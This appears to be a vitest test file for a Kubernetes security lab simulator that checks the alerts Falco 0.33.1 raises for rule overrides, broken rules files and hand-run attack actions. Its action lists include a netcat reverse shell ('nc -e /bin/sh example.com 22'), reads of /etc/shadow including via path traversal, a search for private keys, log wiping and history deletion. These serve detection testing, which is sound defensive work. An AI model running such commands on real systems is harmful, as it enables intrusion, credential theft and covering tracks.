// Falco 0.33.1 in the lab, through the built binary: the chapter's rule override taking effect on
// each kind of reload, a broken rules file failing the unit, the event-generator actions done by
// hand raising the rules real Falco raises, and the falco program in the terminal.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';

const BIN = resolve(__dirname, '..', '..', 'bin', 'cks-lab.js');

function labSession(input: string): string {
  const r = spawnSync(process.execPath, [BIN, 'sh', '--state', mkdtempSync(join(tmpdir(), 'cks-falco-')), '--echo'], {
    input,
    encoding: 'utf8',
    env: { ...process.env, XDG_STATE_HOME: mkdtempSync(join(tmpdir(), 'cks-xdg-')), NO_COLOR: '1' },
  });
  return r.stdout;
}

const lines = (...ls: string[]): string => ls.join('\n') + '\n';
const JOURNAL_PREFIX = String.raw`^Jan 24 \d\d:\d\d:\d\d kube-worker-1 falco\[\d+\]: `;
/** The alert text of every journal line of falco, each once (stdout and syslog both reach the journal). */
const alertsIn = (out: string): string[] => [...new Set(out.split('\n').filter((l) => new RegExp(`${JOURNAL_PREFIX}\\d\\d:\\d\\d:\\d\\d\\.\\d{9}: `).test(l)).map((l) => l.replace(/^.*?falco\[\d+\]: /, '')))];

const NGINX = ['kubectl run nginx --image=nginx:1.23.3', 'sleep 5'];
const MALICIOUS = `kubectl run malicious --image=alpine:3.17.1 -- /bin/sh -c 'while true; do echo "attacker intrusion" >> /etc/threat; sleep 5; done'`;
const SHELL_OVERRIDE = [
  '- rule: Terminal shell in container',
  '  desc: A shell was used as the entrypoint/exec point into a container with an attached terminal.',
  '  condition: >',
  '    spawned_process and container',
  '    and shell_procs and proc.tty != 0',
  '    and container_entrypoint',
  '    and not user_expected_terminal_shell_in_container_conditions',
  '  output: >',
  '    Opened shell: %evt.time,%user.name,%container.name',
  '  priority: ALERT',
  '  tags: [container, shell, mitre_execution]',
];
const appendLocalRules = (...rule: string[]): string[] => ["sudo tee -a /etc/falco/falco_rules.local.yaml > /dev/null <<'EOF'", ...rule, 'EOF'];
const shellInNginx = ['exit', 'kubectl exec -it nginx -- bash', 'exit', 'ssh kube-worker-1'];
const OPENED_SHELL = /^(\d\d:\d\d:\d\d\.\d{9}): Alert Opened shell: \1,root,nginx$/;
const SHELL_NOTICE = /^\d\d:\d\d:\d\d\.\d{9}: Notice A shell was spawned in a container with an attached terminal \(user=root user_loginuid=0 nginx /;

describe("the chapter's override of \"Terminal shell in container\"", () => {
  it('takes effect by itself once the local rules file is written (watch_config_files)', () => {
    const out = labSession(lines(...NGINX, 'ssh kube-worker-1', ...appendLocalRules(...SHELL_OVERRIDE), ...shellInNginx, 'sudo journalctl -u falco --no-pager'));
    expect(out).toMatch(new RegExp(`${JOURNAL_PREFIX}\\w{3} \\w{3} \\d\\d \\d\\d:\\d\\d:\\d\\d 2023: SIGHUP received, restarting\\.\\.\\.$`, 'm'));
    const alerts = alertsIn(out);
    expect(alerts.filter((a) => OPENED_SHELL.test(a))).toHaveLength(1);
    expect(alerts.some((a) => SHELL_NOTICE.test(a))).toBe(false);
    // The full journal line, as the chapter prints it.
    expect(out).toMatch(/^Jan 24 (\d\d:\d\d:\d\d) kube-worker-1 falco\[\d+\]: (\1\.\d{9}): Alert Opened shell: \2,root,nginx$/m);
  });

  it('waits for systemctl restart, then for kill -1, when watch_config_files is off', () => {
    const out = labSession(
      lines(
        ...NGINX,
        'ssh kube-worker-1',
        "sudo sed -i 's/^watch_config_files: true/watch_config_files: false/' /etc/falco/falco.yaml",
        'sleep 1',
        ...appendLocalRules(...SHELL_OVERRIDE),
        ...shellInNginx,
        'sudo systemctl restart falco',
        ...shellInNginx,
        "sudo sed -i 's/Opened shell:/Shell opened:/' /etc/falco/falco_rules.local.yaml",
        ...shellInNginx,
        'sudo kill -1 $(pidof falco)',
        ...shellInNginx,
        'sudo journalctl -u falco --no-pager',
      ),
    );
    const shells = alertsIn(out).filter((a) => /Notice A shell was spawned|Alert (Opened shell|Shell opened):/.test(a));
    expect(shells.map((a) => a.replace(/^\S+ (\w+) (\w+ \w+).*$/, '$1 $2'))).toEqual(['Notice A shell', 'Alert Opened shell', 'Alert Opened shell', 'Alert Shell opened']);
    expect(shells[1]).toMatch(OPENED_SHELL);
    // sed -i on falco.yaml restarted Falco once (the watch was still on); kill -1 once more.
    expect(out.match(/: SIGHUP received, restarting\.\.\.$/gm)).toHaveLength(4);
  });

  it('a broken local rules file makes the restart fail visibly', () => {
    const out = labSession(lines('ssh kube-worker-1', ...appendLocalRules('- rule: Broken shell rule', '  desc: broken', '  condition: evt.type=execve and (proc.name=sh', '  output: x', '  priority: ERROR'), 'sudo systemctl restart falco', 'sudo systemctl status falco --no-pager', 'sudo journalctl -u falco --no-pager'));
    const status = out.slice(out.indexOf('$ sudo systemctl status falco'), out.indexOf('$ sudo journalctl'));
    expect(status).toMatch(/^ {5}Active: (failed|activating \(auto-restart\)) \(Result: exit-code\) since /m);
    // Its last journal lines: Falco's report.
    expect(status).toMatch(/falco\[\d+\]: LOAD_ERR_COMPILE_CONDITION/);
    expect(out).toMatch(/Main PID: \d+ \(code=exited, status=1\/FAILURE\)/);
    expect(out).toMatch(new RegExp(`${JOURNAL_PREFIX}Error: /etc/falco/falco_rules\\.local\\.yaml: Invalid$`, 'm'));
    expect(out).toMatch(new RegExp(`${JOURNAL_PREFIX}LOAD_ERR_COMPILE_CONDITION \\(Error compiling condition\\): expected a '\\)' token$`, 'm'));
    expect(out).toMatch(/kube-worker-1 systemd\[1\]: falco\.service: Failed with result 'exit-code'\.$/m);
  });
});

describe("the chapter's malicious pod", () => {
  it('raises "Write below etc" as the chapter shows, and the overridden output after a restart', () => {
    const override = ['- rule: Write below etc', '  desc: an attempt to write to any file below /etc', '  condition: write_etc_common', '  output: "%evt.time,%user.name,%container.id"', '  priority: ERROR', '  tags: [filesystem, mitre_persistence]'];
    const out = labSession(lines(MALICIOUS, 'sleep 12', 'ssh kube-worker-1', 'sudo crictl ps --name malicious -q', "sudo sed -i 's/^watch_config_files: true/watch_config_files: false/' /etc/falco/falco.yaml", ...appendLocalRules(...override), 'sudo systemctl restart falco', 'sleep 6', 'sudo journalctl -u falco --no-pager'));
    const id = /^([0-9a-f]{12})[0-9a-f]{52}$/m.exec(out)?.[1];
    expect(id).toBeDefined();
    const alerts = alertsIn(out);
    expect(alerts).toContainEqual(
      expect.stringMatching(
        new RegExp(
          String.raw`^\d\d:\d\d:\d\d\.\d{9}: Error File below /etc opened for writing \(user=<NA> user_loginuid=-1 command=sh -c while true; do echo "attacker intrusion" >> /etc/threat; sleep 5; done pid=\d+ parent=containerd-shim pcmdline=containerd-shim .* file=/etc/threat program=sh gparent=systemd ggparent=<NA> gggparent=<NA> container_id=${id} image=docker\.io/library/alpine\)$`,
        ),
      ),
    );
    expect(alerts).toContainEqual(expect.stringMatching(new RegExp(String.raw`^(\d\d:\d\d:\d\d\.\d{9}): Error \1,<NA>,${id}$`)));
  });
});

/** The event-generator actions of reference §7, by hand, and the rule real Falco 0.33.1 raises. */
const ACTIONS: { action: string; rule: RegExp }[] = [
  { action: 'sudo cat /etc/shadow', rule: /: Warning Sensitive file opened for reading by non-trusted program \(user=root user_loginuid=1000 program=cat command=cat \/etc\/shadow .*file=\/etc\/shadow parent=sudo .*container_id=host image=<NA>\)$/ },
  { action: 'kubectl exec nginx -- apt update', rule: /: Error Package management process launched in container \(user=root user_loginuid=0 command=apt update pid=\d+ container_id=[0-9a-f]{12} container_name=nginx image=docker\.io\/library\/nginx:1\.23\.3\)$/ },
  { action: 'kubectl exec nginx -- apt-get install -y git', rule: /: Error Package management process launched in container \(user=root user_loginuid=0 command=apt-get install -y git .*container_name=nginx /},
  { action: 'kubectl exec -it nginx -- bash, then apt install git', rule: /: Error Package management process launched in container \(user=root user_loginuid=0 command=apt install git .*container_name=nginx / },
  { action: 'kubectl exec alpine -- apk add curl', rule: /: Error Package management process launched in container \(user=root user_loginuid=0 command=apk add curl .*container_name=alpine image=docker\.io\/library\/alpine:3\.17\.1\)$/ },
  { action: 'kubectl exec alpine -- nc -e /bin/sh example.com 22', rule: /: Warning Netcat runs inside container that allows remote code execution \(user=root user_loginuid=0 command=nc -e \/bin\/sh example\.com 22 .*container_name=alpine / },
  { action: 'kubectl exec alpine -- nc example.com 80', rule: /: Notice Network tool launched in container \(user=root user_loginuid=0 command=nc example\.com 80 / },
  { action: 'sudo touch /bin/x', rule: /: Error File below a known binary directory opened for writing \(user=root user_loginuid=1000 command=touch \/bin\/x .*file=\/bin\/x / },
  { action: 'kubectl exec alpine -- sh -c "echo x > /etc/y"', rule: /: Error File below \/etc opened for writing \(user=root user_loginuid=0 command=sh -c echo x > \/etc\/y .*file=\/etc\/y program=sh .*image=docker\.io\/library\/alpine\)$/ },
  { action: "sudo sh -c '> /var/log/syslog'", rule: /: Warning Log files were tampered \(user=root user_loginuid=1000 command=sh -c > \/var\/log\/syslog pid=\d+ file=\/var\/log\/syslog container_id=host image=<NA>\)$/ },
  { action: "kubectl exec nginx -- sh -c '> /root/.bash_history'", rule: /: Warning Shell history had been deleted or renamed \(user=root user_loginuid=0 type=openat command=sh -c > \/root\/\.bash_history .*fd\.name=\/root\/\.bash_history / },
  { action: 'echo ls > ~/.bash_history', rule: /: Warning Shell history had been deleted or renamed \(user=vagrant user_loginuid=1000 type=openat command=bash .*fd\.name=\/home\/vagrant\/\.bash_history / },
  { action: 'rm ~/.bash_history (its execve: Delete Bash History)', rule: /: Warning Shell history had been deleted or renamed \(user=vagrant user_loginuid=1000 type=execve command=rm \/home\/vagrant\/\.bash_history / },
  { action: 'rm ~/.bash_history (its unlinkat)', rule: /: Warning Shell history had been deleted or renamed \(user=vagrant user_loginuid=1000 type=unlinkat command=rm \/home\/vagrant\/\.bash_history .*name=\/home\/vagrant\/\.bash_history / },
  { action: 'sudo mkdir /bin/dir-by-hand', rule: /: Error Directory below known binary directory created \(user=root .*directory=\/bin\/dir-by-hand / },
  { action: 'sudo mv /bin/true /bin/true.x', rule: /: Error File below known binary directory renamed\/removed \(user=root .*command=mv \/bin\/true \/bin\/true\.x / },
  { action: 'sudo mv /bin/true.x /bin/true', rule: /: Error File below known binary directory renamed\/removed \(user=root .*command=mv \/bin\/true\.x \/bin\/true / },
  { action: 'sudo touch /dev/created-by-hand', rule: /: Error File created below \/dev by untrusted program \(user=root .*file=\/dev\/created-by-hand / },
  { action: 'ln -s /etc/shadow /tmp/shadow-link', rule: /: Warning Symlinks created over sensitive files \(user=vagrant .*target=\/etc\/shadow linkpath=\/tmp\/shadow-link / },
  { action: 'sudo ln /etc/shadow /tmp/shadow-hard', rule: /: Warning Hardlinks created over sensitive files \(user=root .*target=\/etc\/shadow linkpath=\/tmp\/shadow-hard / },
  { action: 'sudo find /root -name id_rsa', rule: /: Warning Grep private keys or passwords activities found \(user=root .*command=find \/root -name id_rsa / },
  { action: 'sudo touch /lib/x', rule: /: Error File below a monitored directory opened for writing \(user=root .*file=\/lib\/x / },
  { action: 'sudo touch /root/x', rule: /: Error File below \/ or \/root opened for writing \(user=root .*file=\/root\/x program=touch / },
  { action: 'tee -a ~/.bashrc', rule: /: Warning a shell configuration file has been modified \(user=vagrant .*command=tee -a \/home\/vagrant\/\.bashrc .*file=\/home\/vagrant\/\.bashrc / },
  { action: 'sudo useradd bob', rule: /: Notice User management binary command run outside of container \(user=root .*command=useradd bob / },
  // DirectoryTraversalMonitoredFileRead: the path reaches openat unresolved (fd.nameraw); the macro
  // wants two ../ and a parent that is not a shell.
  { action: 'sudo cat /etc/../etc/../etc/shadow', rule: /: Warning Read monitored file via directory traversal \(username=root useruid=0 user_loginuid=1000 program=cat exe=\/usr\/bin\/cat command=cat \/etc\/\.\.\/etc\/\.\.\/etc\/shadow pid=\d+ parent=sudo file=\/etc\/shadow fileraw=\/etc\/\.\.\/etc\/\.\.\/etc\/shadow parent=sudo gparent=bash container_id=host image=<NA> returncode=SUCCESS cwd=\/home\/vagrant\)$/ },
  { action: 'kubectl exec nginx -- cat ../../etc/shadow', rule: /: Warning Read monitored file via directory traversal \(username=root .*command=cat \.\.\/\.\.\/etc\/shadow .*file=\/etc\/shadow fileraw=\.\.\/\.\.\/etc\/shadow .*container_id=[0-9a-f]{12} image=docker\.io\/library\/nginx returncode=SUCCESS cwd=\/\)$/ },
  { action: 'cd /tmp && sudo cat ../etc/shadow (one ../: only untrusted)', rule: /: Warning Sensitive file opened for reading by non-trusted program \(user=root .*command=cat \.\.\/etc\/shadow .*file=\/etc\/shadow parent=sudo / },
];

describe('event-generator actions by hand', () => {
  let alerts: string[] = [];
  let out = '';
  beforeAll(() => {
    out = labSession(
      lines(
        ...NGINX,
        'kubectl run alpine --image=alpine:3.17.1 -- sleep 100000',
        'sleep 5',
        'kubectl exec nginx -- apt update',
        'kubectl exec nginx -- apt-get install -y git',
        'kubectl exec -it nginx -- bash',
        'apt install git',
        'exit',
        'kubectl exec alpine -- apk add curl',
        'kubectl exec alpine -- nc -e /bin/sh example.com 22',
        'kubectl exec alpine -- nc example.com 80',
        'kubectl exec alpine -- sh -c "echo x > /etc/y"',
        "kubectl exec nginx -- sh -c '> /root/.bash_history'",
        'kubectl exec nginx -- cat ../../etc/shadow > /dev/null',
        'ssh kube-worker-1',
        'sudo cat /etc/shadow > /dev/null',
        'sudo touch /bin/x',
        "sudo sh -c '> /var/log/syslog'",
        'echo ls > ~/.bash_history',
        'cat ~/.bash_history',
        'rm ~/.bash_history',
        'sudo mkdir /bin/dir-by-hand',
        'sudo mv /bin/true /bin/true.x',
        'sudo mv /bin/true.x /bin/true',
        'sudo touch /dev/created-by-hand',
        'ln -s /etc/shadow /tmp/shadow-link',
        'sudo ln /etc/shadow /tmp/shadow-hard',
        'sudo find /root -name id_rsa',
        'sudo touch /lib/x',
        'sudo touch /root/x',
        'tee -a ~/.bashrc < /dev/null',
        'sudo useradd bob',
        'sudo cat /etc/../etc/../etc/shadow > /dev/null',
        // A shell is the parent here: not reported.
        'cat /etc/../etc/../etc/hostname',
        'cd /tmp && sudo cat ../etc/shadow > /dev/null && cd',
        'sudo journalctl -u falco --no-pager',
      ),
    );
    alerts = alertsIn(out);
  }, 60_000);

  it.each(ACTIONS)('$action', ({ rule }) => {
    expect(alerts.filter((a) => rule.test(a))).toHaveLength(1);
  });

  it('reading the shell history raises nothing: "Read Shell Configuration File" is off in 0.33.1', () => {
    expect(alerts.filter((a) => a.includes('command=cat /home/vagrant/.bash_history'))).toEqual([]);
  });

  it('the _apt download helpers of apt do not count as package management (user.name = _apt)', () => {
    expect(alerts.filter((a) => a.includes('Package management process launched') && a.includes('user=_apt'))).toEqual([]);
  });

  it('every alert comes from one of the actions (nothing spurious)', () => {
    const explained = alerts.filter((a) => ACTIONS.some(({ rule }) => rule.test(a)));
    const rest = alerts.filter((a) => !explained.includes(a));
    // The interactive bash in nginx: its start, and its history written back on exit (no histappend
    // in the image, so bash truncates the file).
    expect(rest.map((a) => a.replace(/^\S+ /, '').replace(/ \(.*$/, ''))).toEqual(['Notice A shell was spawned in a container with an attached terminal', 'Warning Shell history had been deleted or renamed']);
  });
});

describe('the falco program in the terminal', () => {
  it('prints alerts in the foreground until it stops, and -V, -L, -l work', () => {
    const out = labSession(lines(MALICIOUS, 'sleep 8', 'ssh kube-worker-1', 'sudo falco -M 6 2>/dev/null', 'falco -V /etc/falco/falco_rules.local.yaml 2>/dev/null', 'falco -L 2>/dev/null | head -3', "falco -l 'Write below etc' 2>/dev/null", 'falco --version'));
    expect(out).toMatch(/^vagrant@kube-worker-1:~\$ sudo falco -M 6 2>\/dev\/null\n\d\d:\d\d:\d\d\.\d{9}: Error File below \/etc opened for writing \(user=<NA> user_loginuid=-1 command=sh -c while true; .*\)\nEvents detected: 1\nRule counts by severity:\n {3}ERROR: 1\nTriggered rules by rule name:\n {3}Write below etc: 1\n/m);
    expect(out).toContain('\n/etc/falco/falco_rules.local.yaml: Ok\n');
    expect(out).toContain(`\nRule${' '.repeat(47)}Description\n----${' '.repeat(47)}-----------\n`);
    expect(out).toContain(`\nWrite below etc${' '.repeat(36)}an attempt to write to any file below /etc \n`);
    expect(out).toContain('\nFalco version: 0.33.1\n');
  });

  it('stops on Ctrl-C with its shutdown lines and exit status 0', () => {
    const out = labSession(lines('ssh kube-worker-1', 'sudo falco 2>/dev/null', 'echo "status=$?"'));
    expect(out).toMatch(/\$ sudo falco 2>\/dev\/null\n\^CEvents detected: 0\nRule counts by severity:\nTriggered rules by rule name:\n\nvagrant@kube-worker-1:~\$ echo "status=\$\?"\nstatus=0\n/);
  });

  it('runs in the background until SIGINT, printing each alert as it happens', () => {
    const out = labSession(lines('ssh kube-worker-1', 'sudo falco 2>/dev/null &', 'sudo cat /etc/shadow > /dev/null', 'sudo kill -INT $(pidof falco | cut -d" " -f1)', 'sleep 1'));
    expect(out).toMatch(/: Warning Sensitive file opened for reading by non-trusted program \(user=root .*command=cat \/etc\/shadow /);
    expect(out).toMatch(/\nEvents detected: 1\nRule counts by severity:\n {3}WARNING: 1\n/);
  });
});

describe('cks-lab falco on files of this computer (the built binary)', () => {
  const ASSETS = resolve(__dirname, '..', '..', 'assets', 'falco');
  const SHIPPED = ['falco_rules.yaml', 'falco_rules.local.yaml', 'k8s_audit_rules.yaml', 'rules.available/application_rules.yaml'].map((f) => join(ASSETS, f));
  const host = (...args: string[]) => spawnSync(process.execPath, [BIN, 'falco', ...args], { encoding: 'utf8', env: { ...process.env, TZ: 'UTC', NO_COLOR: '1' } });
  const dir = mkdtempSync(join(tmpdir(), 'cks-falco-host-'));
  const put = (name: string, text: string): string => {
    writeFileSync(join(dir, name), text);
    return join(dir, name);
  };

  it('validate says Ok for each shipped rules file', () => {
    const r = host('validate', ...SHIPPED);
    expect([r.status, r.stdout, r.stderr]).toEqual([0, SHIPPED.map((f) => `${f}: Ok\n`).join(''), '']);
  });

  it("validate prints Falco's Invalid report with the libs message for a syntax error, and exits 1", () => {
    const bad = put('bad.yaml', '- rule: Broken\n  desc: x\n  condition: evt.type=execve a\n  output: x\n  priority: ERROR\n');
    const r = host('validate', bad);
    const report = [
      `${bad}: Invalid`,
      '1 Errors:',
      `In rules content: (${bad}:0:0)`,
      `    rule 'Broken': (${bad}:0:2)`,
      `    rule condition: (${bad}:2:13)`,
      '    condition expression: ("evt.type=execve a":0:16)',
      '------',
      'evt.type=execve a',
      '                ^',
      '------',
      "LOAD_ERR_COMPILE_CONDITION (Error compiling condition): unexpected token after 'execve', expecting 'or', 'and'",
      '',
    ].join('\n');
    expect(r.status).toBe(1);
    expect(r.stdout).toBe(`${report}\n`);
    expect(r.stderr).toBe(`Error: ${report}\n`);
  });

  it("replay prints the chapter's alerts: the overridden shell rule, and Write below etc with its overridden output", () => {
    const local = put(
      'falco_rules.local.yaml',
      [
        ...SHELL_OVERRIDE,
        '',
        '- rule: Write below etc',
        '  desc: an attempt to write to any file below /etc',
        '  condition: write_etc_common',
        '  output: "%evt.time,%user.name,%container.id"',
        '  priority: ERROR',
        '  tags: [filesystem, mitre_persistence]',
        '',
      ].join('\n'),
    );
    const events = put(
      'events.jsonl',
      [
        { 'evt.type': 'execve', 'evt.time': '2023-01-24T21:19:13.961970887Z', 'proc.name': 'bash', 'proc.pname': 'runc', 'proc.tty': 34816, 'user.name': 'root', 'user.loginuid': 0, 'container.id': '18b247adb3ca', 'container.name': 'nginx', 'container.image': 'docker.io/library/nginx:1.23.3' },
        { 'evt.type': 'openat', 'evt.time': '2023-01-24T23:48:18.516903001Z', 'evt.arg.flags': 'O_WRONLY|O_CREAT|O_APPEND', 'fd.name': '/etc/threat', 'proc.name': 'sh', 'proc.args': ['-c', 'while true; do echo "attacker intrusion" >> /etc/threat; sleep 5; done'], 'proc.pname': 'containerd-shim', 'user.name': null, 'user.loginuid': -1, 'container.id': 'e72a6dbb63b8', 'container.name': 'malicious', 'container.image.repository': 'docker.io/library/alpine' },
      ]
        .map((e) => JSON.stringify(e))
        .join('\n'),
    );
    const r = host('replay', '--rules', SHIPPED[0]!, '--rules', local, events);
    expect([r.status, r.stderr]).toEqual([0, '']);
    expect(r.stdout).toBe('21:19:13.961970887: Alert Opened shell: 21:19:13.961970887,root,nginx\n23:48:18.516903001: Error 23:48:18.516903001,<NA>,e72a6dbb63b8\n');
  });
});
